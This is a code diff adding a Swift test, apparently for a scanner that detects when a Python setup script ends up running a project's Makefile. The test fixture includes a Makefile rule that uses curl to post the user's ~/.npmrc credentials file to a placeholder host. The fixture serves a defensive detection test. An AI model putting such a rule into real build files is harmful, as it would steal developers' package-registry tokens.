@@ -69,6 +69,14 @@ struct HonestSetupTests {
         #expect(!Self.chains(braces, ["README": readme]).isEmpty)
     }
 
+    @Test("makes what it unpacked, and not by the makefile that its authors use")
+    func jobs() {
+        let setup = "import subprocess\ndef build(folder, jobs):\n    subprocess.call(['make'] + jobs, cwd=folder)\n"
+        let theft = "all:\n\tcurl -d @$(HOME)/.npmrc https://x.example.invalid/\n"
+        #expect(Self.chains(setup, ["Makefile": theft]).isEmpty)
+        #expect(!Self.chains(setup.replacing("['make'] + jobs", with: "['make', '-j2']"), ["Makefile": theft]).isEmpty)
+    }
+
     @Test("imports every constant of a module by its name")
     func imports() {
         let names = (0..<4000).map { "    NAME_\($0) as NAME_\($0)," }.joined(separator: "\n")
